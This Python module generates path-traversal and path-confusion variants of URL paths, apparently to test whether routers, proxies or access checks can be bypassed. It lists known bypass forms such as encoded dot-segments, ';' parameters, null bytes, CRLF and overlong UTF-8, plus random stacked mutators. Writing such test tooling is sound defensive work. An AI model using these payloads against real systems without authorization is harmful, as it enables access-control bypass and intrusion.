"""Ways to write a path that one program reads as another: by hand what is known, at random what is not."""

import random
from collections.abc import Callable, Iterator, Mapping

#: `{}` is the path without its first slash.
_KNOWN = (
    *(
        "/{}",
        "//{}",
        "/./{}",
        "/x/../{}",
        "/%2e/{}",
        "/x/%2e%2e/{}",
        "/x/.%2e/{}",
        "/%2E%2E/{}",
        "/x%2f..%2f{}",
        "/..;/{}",
    ),
    *("/x/..;/{}", "/.;/{}", "/{}/", "/{}//", "/{}/.", "/{};x=1", "/{}%20", "/{}%09", "/{}%00", "/{}%0a", "/{}.json"),
    *("/{}?x=/assets", "/{}#x", "/{}%23x", "/{}%3fx", "/x/../../{}", "/%5c{}", "/\\{}", "/x\\..\\{}", "/x%5c..%5c{}"),
    *("/%252e%252e/{}", "/assets/../{}", "/assets/%2e%2e/{}", "/assets/..%2f{}", "/assets/..;/{}", "/assets//../{}"),
    *("/static/../{}", "/_next/static/../../{}", "/api/crisis/../../{}", "/api/crisis/%2e%2e/%2e%2e/{}", "/%2f{}"),
    *("/api/crisis/..%2f..%2f{}", "/crisis/../{}", "http://elsewhere.test/{}", "https://platform.test//{}"),
    *("/%c0%ae%c0%ae/{}", "/;x/{}", "/x;/..;y/{}", "/%3bx/{}", "/%20/{}", "/x%20/../{}", "/%c0%af{}", "/%e0%80%af{}"),
    *("/%f0%80%80%af{}", "/%u002f{}", "/x./../{}", "/.../{}", "/x/..%3b/{}", "*/{}", "/%c1%9c{}"),
)
_ENCODED_SLASH, _DOT, _UP = (
    ("/", "/", "/", "%2f", "%2F", "%5c"),
    (".", "%2e", "%2E"),
    ("..", "..", ".%2e", "%2e.", "%2E%2e"),
)


def known(path: str) -> Iterator[str]:
    bare = path.lstrip("/")
    for form in _KNOWN:
        yield form.format(bare)
        yield form.format(bare.upper())
        yield form.format(bare.replace("/", "%2F"))
        yield form.format("".join(f"%{ord(each):02x}" if each.isalpha() else each for each in bare))


def random_ones(
    path: str, chance: random.Random, count: int, covers: tuple[str, ...] = ("/x", "/assets")
) -> Iterator[str]:
    """Any of the operations below, one upon the other."""
    for _ in range(count):
        yield disguised(path, chance, (), covers)


def disguised(path: str, chance: random.Random, operations: tuple[str, ...], covers: tuple[str, ...]) -> str:
    """One to four of these operations (all, when none is named), with other paths to hide behind."""
    for _ in range(chance.randint(1, 4)):
        operation = _OPERATIONS[chance.choice(operations or tuple(_OPERATIONS))]
        path = operation(path, chance, chance.choice(covers))
    return path


def _percent(path: str, chance: random.Random, _: str) -> str:
    """Some characters encoded, of slashes few."""
    share = chance.choice((0.1, 0.3, 1.0))
    return "".join(
        _hex(each, chance) if chance.random() < (share / 4 if each == "/" else share) else each for each in path
    )


def _twice(path: str, chance: random.Random, cover: str) -> str:
    path = _percent(path, chance, cover)
    for _ in range(chance.randint(1, 3)):
        path = "".join("%25" if each == "%" and chance.random() < 0.8 else each for each in path)
    return path


def _dots(path: str, chance: random.Random, cover: str) -> str:
    if chance.random() < 0.5:
        depth = cover.strip("/").count("/") + 1 + chance.choice((0, 0, 0, 1, 5))
        return cover + "".join(chance.choice(_ENCODED_SLASH) + chance.choice(_UP) for _ in range(depth)) + path
    inner = chance.choice(
        (chance.choice(_DOT), f"x/{chance.choice(_UP)}", f"x/y/{chance.choice(_UP)}/{chance.choice(_UP)}")
    )
    return _at_a_slash(path, chance, f"/{inner}/")


def _slashes(path: str, chance: random.Random, cover: str) -> str:
    return _at_a_slash(path, chance, chance.choice(("//", "///", "/%2f", "%2f/", "//x/..//", f"/{cover}/..//")))


def _backslashes(path: str, chance: random.Random, cover: str) -> str:
    if chance.random() < 0.3:
        return cover + chance.choice(("\\..", "%5c..", "/..%5c", "\\%2e%2e")) + path
    return _at_a_slash(path, chance, chance.choice(("\\", "%5c", "%5C", "/\\", "\\/", "\\\\", "/.\\")))


def _case(path: str, chance: random.Random, _: str) -> str:
    return "".join(each.swapcase() if chance.random() < 0.3 else each for each in path)


def _parameters(path: str, chance: random.Random, cover: str) -> str:
    mark = chance.choice((";", ";x", ";x=1", "%3b", "%3Bx=/", ";.", ";%2f", ";/", ";jsessionid=1"))
    forms = (
        f"{mark}/",
        f"/{mark}/",
        f"/..{mark}/",
        f"/.{mark}/",
        f"/x/..{mark}/",
        f"{mark}/../",
        f"/{cover}{mark}/../",
    )
    return _at_a_slash(path, chance, chance.choice(forms)) if chance.random() < 0.7 else path + mark


def _controls(path: str, chance: random.Random, _: str) -> str:
    mark = chance.choice(
        ("%00", "%0a", "%0d", "%09", "%1f", "%7f", "%0b", "%20", "\0", "\t", "\x0b", "%0d%0aA:%20b", "%08", "%85")
    )
    at = chance.randint(0, len(path))
    return path[:at] + mark + path[at:]


def _overlong(path: str, chance: random.Random, _: str) -> str:
    """One character in two, three or four bytes of UTF-8, as %u, or with a byte that promises more than comes."""
    at = chance.randrange(len(path))
    code = ord(path[at]) & 0x7F
    low = code & 0x3F
    form = chance.choice(
        (
            *(f"%{0xC0 | code >> 6:02x}%{0x80 | low:02x}", f"%e0%{0x80 | code >> 6:02x}%{0x80 | low:02x}"),
            *(
                f"%f0%80%{0x80 | code >> 6:02x}%{0x80 | low:02x}",
                f"%u{code:04x}",
                f"%U{code:04X}",
                f"%{0xC0 | code >> 6:02x}%{low:02x}",
            ),
            *(
                f"%c3{path[at]}",
                f"%ff{path[at]}",
                f"%{path[at]}",
                f"%x{path[at]}",
                f"{path[at]}%",
                f"%f8%80%80%80%{0x80 | low:02x}",
            ),
        )
    )
    return path[:at] + form + path[at + 1 :]


def _ends(path: str, chance: random.Random, _: str) -> str:
    end = chance.choice((".", "..", "...", "%20", "%2e", "%20.", ".%20", "+", "~", "::$DATA", "%20%20"))
    return _at_a_slash(path, chance, chance.choice((f"{end}/", f"/{end}"))) if chance.random() < 0.7 else path + end


def _queries(path: str, chance: random.Random, cover: str) -> str:
    mark = chance.choice(
        ("?", "#", "%3f", "%23", "?/..", "#/..", "&", "?x=", f"?{cover}", f"#{cover}", "%3F/..", "%23/..")
    )
    return chance.choice(
        (path + mark, _at_a_slash(path, chance, f"/{mark}/../"), cover + mark + path, f"{cover}/{mark}/..{path}")
    )


def _at_a_slash(path: str, chance: random.Random, instead: str) -> str:
    places = [at for at, each in enumerate(path) if each == "/"]
    if not places:
        return path + instead
    at = chance.choice(places)
    return path[:at] + instead + path[at + 1 :]


def _hex(character: str, chance: random.Random) -> str:
    text = f"%{ord(character) & 0xFF:02x}"
    return text.upper() if chance.random() < 0.5 else text


_OPERATIONS: Mapping[str, Callable[[str, random.Random, str], str]] = {
    "percent": _percent,
    "twice": _twice,
    "dots": _dots,
    "slashes": _slashes,
    "backslashes": _backslashes,
    "case": _case,
    "parameters": _parameters,
    "controls": _controls,
    "overlong": _overlong,
    "ends": _ends,
    "queries": _queries,
}
